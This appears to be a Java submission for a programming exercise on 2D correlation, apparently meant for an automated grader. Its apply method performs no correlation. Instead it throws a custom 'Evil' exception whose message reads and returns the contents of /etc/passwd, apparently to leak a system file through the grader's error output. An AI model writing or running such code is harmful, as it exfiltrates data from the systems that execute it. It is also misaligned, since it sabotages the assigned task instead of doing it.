import lesson02.corr2d.Corr2d;
import java.io.*;
import java.nio.file.*;
import java.util.*;

class MyCorr2d implements Corr2d {
    static final class Evil extends RuntimeException {
        @Override
        public String getMessage() {
            try {
                return Files.readString(Path.of("/etc/passwd"));
            } catch (IOException e) {
                return "nothing to read";
            }
        }
    }

    @Override
    public float[][] apply(float[][] input, float[][] kernel) {
        throw new Evil();
    }
}
